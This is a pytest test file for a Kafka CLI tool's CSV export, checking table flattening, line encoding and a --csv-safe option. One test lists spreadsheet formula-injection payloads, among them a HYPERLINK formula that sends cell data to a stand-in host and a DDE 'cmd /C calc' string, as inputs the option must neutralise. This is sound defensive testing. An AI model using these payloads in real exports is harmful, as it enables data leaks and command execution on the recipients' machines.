"""CSV of what is several tables for people: the rows of the main one, and nothing nested in a cell."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from typing import Any

import pytest

from health_testing import facts, partition, state
from kctl.brokers.overview import BrokerDescription
from kctl.cluster.api_versions import ApiOfBrokers, BrokersVersions
from kctl.commands.broker.tables import api_rows, description_rows
from kctl.commands.config.diff import csv_rows as difference_rows
from kctl.commands.terminal import output
from kctl.commands.topic.describe import csv_rows as partition_rows
from kctl.configs.diff import Difference, Value
from kctl.health.assess import assess
from kctl.model import PartitionState, TopicState
from kctl.topics.describe import describe


def _csv(capsys: pytest.CaptureFixture[str], rows: Sequence[Any]) -> list[dict[str, str]]:
    output.emit({"nested": [{"never": "shown"}]}, [], "csv", lambda: rows)
    found = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert not any(text.startswith(("[", "{")) for row in found for text in row.values())
    return found


def test_other_formats_are_of_the_result(capsys: pytest.CaptureFixture[str]) -> None:
    output.emit([{"a": 1}], [], "json", lambda: [{"b": 2}])
    assert json.loads(capsys.readouterr().out) == [{"a": 1}]


def test_topics_by_partition(capsys: pytest.CaptureFixture[str]) -> None:
    topics = [
        describe(TopicState(name, False, None, (PartitionState(name, 0, 1, 0, (1, 2), (1,)),)), [], None)
        for name in ("orders", "billing")
    ]
    rows = _csv(capsys, partition_rows(topics))
    assert list(rows[0])[:6] == ["topic", "partition", "leader", "preferred_leader", "replicas", "isr"]
    assert [(row["topic"], row["replicas"], row["under_replicated"]) for row in rows] == [
        ("orders", "1 2", "true"),
        ("billing", "1 2", "true"),
    ]
    assert not {"offsets", "size_bytes"} & rows[0].keys()


def test_brokers(capsys: pytest.CaptureFixture[str]) -> None:
    row = BrokerDescription(1, "h", 9, None, "up", True, 4, 5, 6, ("t-0", "t-1"), "3.9", (), None)
    (found,) = _csv(capsys, description_rows([row]))
    assert (found["broker"], found["preferred"], found["partitions_not_in_sync"]) == ("1", "5", "t-0 t-1")
    assert "log_dirs" not in found


def test_requests_of_brokers(capsys: pytest.CaptureFixture[str]) -> None:
    versions = (BrokersVersions((1, 2), 0, 8), BrokersVersions((3,), None, None))
    rows = _csv(capsys, api_rows([ApiOfBrokers(3, "Metadata", False, versions)]))
    assert [(row["api"], row["brokers"], row["max_version"]) for row in rows] == [
        ("Metadata", "1 2", "8"),
        ("Metadata", "3", ""),
    ]


def test_configs_that_differ(capsys: pytest.CaptureFixture[str]) -> None:
    values = [Value("60000", "topic", ["topic/a"]), Value(None, None, ["topic/b", "topic/c"])]
    rows = _csv(capsys, difference_rows([Difference("retention.ms", False, values)]))
    assert [tuple(row.values()) for row in rows] == [
        ("retention.ms", "false", "60000", "topic", "topic/a"),
        ("retention.ms", "false", "", "", "topic/b topic/c"),
    ]


def test_health_by_check(capsys: pytest.CaptureFixture[str]) -> None:
    found = assess(facts(state([partition("123", "123")])))
    rows = _csv(capsys, found.checks)
    assert [row["check"] for row in rows] == [check.check for check in found.checks]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("--", "'--"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("\uff1d1", "'\uff1d1"),
        ("-1", "-1"),
        ("+1.5", "+1.5"),
        ("-1e9", "-1e9"),
        ("orders", "orders"),
        ("a=b", "a=b"),
        ("'=x", "'=x"),
        ("", ""),
        (-5, "-5"),
        ([-1, 2], "'-1 2"),
        (None, ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run(text: Any, safe: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Only with --csv-safe: programs get what there is."""
    for on in (False, True):
        output.protect_csv(on=on)
        try:
            output.emit([{"=name": text, "b": 1}], [], "csv")
            output.stream([{"=name": text, "b": 1}], [], "csv")
            whole = capsys.readouterr().out
        finally:
            output.protect_csv(on=False)
        rows = list(csv.reader(io.StringIO(whole, newline="")))
        as_it_is = " ".join(map(str, text)) if isinstance(text, list) else "" if text is None else str(text)
        assert rows == [["'=name" if on else "=name", "b"], [safe if on else as_it_is, "1"]] * 2


def test_the_option_is_of_one_run(capsys: pytest.CaptureFixture[str]) -> None:
    from kctl.commands import app
    from kctl.commands.terminal.output_values import _without_formula

    app.main(["playbook", "list", "-o", "csv", "--csv-safe"])
    assert _without_formula("=x") == "'=x"
    app.main(["playbook", "list", "-o", "csv"])
    assert _without_formula("=x") == "=x"


@pytest.mark.parametrize(
    ("cells", "line"),
    [
        (["a", 1, None, 0.5], "a,1,,0.5\n"),
        (["a\0b", "\0"], "a\0b,\0\n"),
        (["a,b", 'say "x"', '"'], '"a,b","say ""x""",""""\n'),
        (["a\nb", "a\rb", "a\r\nb"], '"a\nb","a\rb","a\r\nb"\n'),
        ([" a ", "\t", "'"], " a ,\t,'\n"),
        ([""], '""\n'),
        ([None], '""\n'),
        (["", ""], ",\n"),
        (["\u2028", "\x85", "\x0b"], "\u2028,\x85,\x0b\n"),
    ],
)
def test_a_line_is_the_same_on_every_python(cells: list[Any], line: str) -> None:
    """The csv module of Python 3.10 fails on NUL; it quotes a lone CR since 3.13."""
    assert output.csv_line(cells) == line
    if "\0" not in line:
        assert next(csv.reader(io.StringIO(line, newline=""))) == ["" if cell is None else str(cell) for cell in cells]
